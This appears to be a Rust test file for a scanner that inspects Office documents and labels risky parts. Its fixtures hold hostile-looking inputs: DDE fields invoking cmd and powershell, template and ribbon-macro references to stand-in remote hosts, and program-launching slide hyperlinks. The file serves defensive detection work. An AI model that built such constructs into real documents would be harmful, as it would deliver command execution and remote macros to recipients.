//! Packages as bytes → deeds and members.

use crate::{Budget, Keys, Kind, Unread, kind, open};

/// Names and contents.
type Parts<'p> = &'p [(&'p str, &'p [u8])];

/// A package of stored parts.
fn package(parts: Parts<'_>) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    let types = b"<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let parts = std::iter::once(("[Content_Types].xml", &types[..])).chain(parts.iter().copied());
    let mut count = 0_u16;
    for (name, content) in parts {
        let offset = bytes.len() as u32;
        let size = (content.len() as u32).to_le_bytes();
        let mut fields = vec![20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x50, 0, 0, 0, 0];
        fields.extend([size, size].concat());
        fields.extend((name.len() as u16).to_le_bytes());
        fields.extend([0, 0]);
        bytes.extend([b"PK\x03\x04", &fields[..], name.as_bytes(), content].concat());
        directory.extend(
            [b"PK\x01\x02\x14\0", &fields[..], &[0; 10], &offset.to_le_bytes(), name.as_bytes()].concat(),
        );
        count += 1;
    }
    let offset = (bytes.len() as u32).to_le_bytes();
    let size = (directory.len() as u32).to_le_bytes();
    let count = count.to_le_bytes();
    bytes.extend([&directory[..], b"PK\x05\x06\0\0\0\0", &count, &count, &size, &offset, &[0, 0]].concat());
    bytes
}

fn told(bytes: &[u8]) -> String {
    let mut members = Vec::new();
    let opened = open(bytes, kind(bytes), &Keys::default(), &mut Budget::default(), &mut |member| {
        members.push(format!("{}={}", member.names.join("|"), kind(&member.bytes).id()));
    });
    let deeds = opened.deeds.iter().map(|deed| format!("{:?} {:?}", deed.kind, deed.danger));
    deeds.chain(members).collect::<Vec<_>>().join(", ")
}

fn relation(what: &str, target: &str, mode: &str) -> String {
    format!(
        "<Relationship Id=\"rId1\" Type=\"http://purl.oclc.org/ooxml/officeDocument/relationships/{what}\" Target=\"{target}\"{mode}/>"
    )
}

const OUT: &str = " TargetMode=\"External\"";

#[test]
fn parts_count_by_what_is_in_them() {
    let template = relation("attachedTemplate", "http://templates.example/a.dotm", OUT);
    let field = "<w:document><w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r>\
                 <w:r><w:instrText>EAUTO cmd \"/c</w:instrText></w:r><w:r><w:instrText> a\"</w:instrText></w:r>\
                 <w:r><w:fldChar w:fldCharType='end'/></w:r></w:p></w:document>";
    let wide: Vec<u8> = format!("\u{feff}{field}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let simple =
        "<w:hdr><w:fldSimple w:instr=\" DDE &quot;powershell&quot; -w \"><w:r/></w:fldSimple></w:hdr>";
    let click = "<p:sld><a:hlinkClick r:id=\"rId1\" action=\"ppaction://program\"/></p:sld>";
    let hover = "<p:sld><a:hlinkHover r:id=\"rId1\" action=\"ppaction://program\"/></p:sld>";
    let program = relation("hyperlink", "notes.exe", OUT);
    let cases: &[(Parts<'_>, &str)] = &[
        (&[("word/document.xml", b"<w:document><w:t>a</w:t></w:document>")], ""),
        (&[("word/_rels/settings.xml.rels", template.as_bytes())], ""),
        (&[("word/odd.bin", field.as_bytes())], "Dde Dangerous"),
        (&[("word/document.xml", &wide)], "Dde Dangerous"),
        (&[("word/header1.xml", simple.as_bytes())], "Dde Dangerous"),
        (
            &[(
                "xl/externalLinks/a.xml",
                b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c a\"/></externalLink>",
            )],
            "Dde Dangerous",
        ),
        (
            &[(
                "xl/externalLinks/a.xml",
                b"<externalLink><ddeLink ddeService=\"excel\" ddeTopic=\"a.xls\"/></externalLink>",
            )],
            "Dde Harmless",
        ),
        (
            &[("word/activeX/a.xml", b"<ax:ocx ax:classid=\"{D27CDB6E-AE6D-11cf-96B8-444553540000}\"/>")],
            "ActiveX Dangerous",
        ),
        (
            &[("word/activeX/a.xml", b"<ax:ocx ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>")],
            "ActiveX Harmless",
        ),
        (
            &[
                ("ppt/slides/slide1.xml", click.as_bytes()),
                ("ppt/slides/_rels/slide1.xml.rels", program.as_bytes()),
            ],
            "Command Active",
        ),
        (&[("ppt/slides/slide1.xml", hover.as_bytes())], "Command Dangerous"),
        (
            &[("xl/connections.xml", b"<connections><webPr url=\"http://a.example/\"/></connections>")],
            "ExternalObject Active",
        ),
    ];
    for (parts, expected) in cases {
        if parts[0].0.ends_with("settings.xml.rels") {
            let wrapped = format!("<Relationships>{template}</Relationships>");
            assert_eq!(told(&package(&[(parts[0].0, wrapped.as_bytes())])), "ExternalTemplate Dangerous");
            continue;
        }
        assert_eq!(told(&package(parts)), *expected, "{}", parts[0].0);
    }
}

#[test]
fn a_ribbon_that_loads_a_macro_from_elsewhere_is_named() {
    let cases: &[(Parts<'_>, &str)] = &[
        (
            &[("customUI/customUI.xml", b"<customUI onLoad=\"https://a.example/b.dotm!Shown\"/>")],
            "ExternalTemplate Dangerous",
        ),
        (
            &[("customUI/customUI.xml", b"<customUI onLoad=\"'\\\\203.0.113.9\\a\\b.xlam'!Shown\"/>")],
            "ExternalTemplate Dangerous",
        ),
        // A macro of its own, or of an add-in that is installed.
        (
            &[(
                "customUI/customUI.xml",
                b"<customUI onLoad=\"b.xlam!Shown\"><a onLoad=\"https://a.example/!b\"/></customUI>",
            )],
            "",
        ),
        (&[("customUI/customUI.xml", b"<customUI onLoad=\"Shown\"/>")], ""),
    ];
    for (parts, expected) in cases {
        assert_eq!(told(&package(parts)), *expected, "{:?}", parts[0].1.escape_ascii().to_string());
    }
}

#[test]
fn what_is_no_picture_is_handed_out() {
    let chunk = format!("<Relationships>{}</Relationships>", relation("aFChunk", "/word/a.rtf", ""));
    let cases: &[(Parts<'_>, &str)] = &[
        (&[("word/media/image1.png", b"\x89PNG\r\n\x1a\n")], ""),
        (
            &[("word/media/image1.png", &crate::sample(Kind::WindowsProgram).unwrap())],
            "image1.png=windows-program",
        ),
        (&[("word/embeddings/a.xlsx", b"PK\x03\x04")], "a.xlsx=zip"),
        (&[("word/embeddings/a.txt", b"plain words")], "a.txt=text"),
        (&[("xl/printerSettings/printerSettings1.bin", &[0; 300])], ""),
        (
            &[("word/_rels/document.xml.rels", chunk.as_bytes()), ("word/a.rtf", b"{\\rtf1 a}")],
            "AltChunk Active, a.rtf=rtf",
        ),
    ];
    for (parts, expected) in cases {
        assert_eq!(told(&package(parts)), *expected, "{}", parts[0].0);
    }
}

#[test]
fn a_document_in_one_xml_file_is_the_same() {
    let flat = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
         <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
         <pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>{}</Relationships></pkg:xmlData></pkg:part>\
         <pkg:part pkg:name=\"/word/embeddings/a.txt\"><pkg:binaryData>cGxhaW4g\r\nd29yZHM=</pkg:binaryData></pkg:part></pkg:package>",
        relation("attachedTemplate", "http://templates.example/a.dotm", OUT)
    );
    assert_eq!(told(flat.as_bytes()), "ExternalTemplate Dangerous, a.txt=text");
}

#[test]
fn a_cut_package_is_never_clean() {
    let whole = package(&[
        ("word/document.xml", b"<w:document><w:t>a</w:t></w:document>"),
        ("word/media/a.png", b"\x89PNG\r\n\x1a\n"),
    ]);
    for end in 30..whole.len() {
        let bytes = &whole[..end];
        let opened =
            open(bytes, Kind::OfficeWordOoxml, &Keys::default(), &mut Budget::default(), &mut |_| {});
        let said = opened.unread.iter().any(|(unread, _)| *unread == Unread::Damaged);
        // The last bytes of the end record say nothing of the members.
        assert!(said || end + 22 > whole.len(), "{end} of {}", whole.len());
    }
    let mut seed = 3_u32;
    for _ in 0..2000 {
        let mut bytes = whole.clone();
        for _ in 0..4 {
            seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let at = (seed >> 8) as usize % bytes.len();
            bytes[at] = (seed & 0xff) as u8;
        }
        let _ = open(&bytes, Kind::OfficeWordOoxml, &Keys::default(), &mut Budget::default(), &mut |_| {});
    }
}
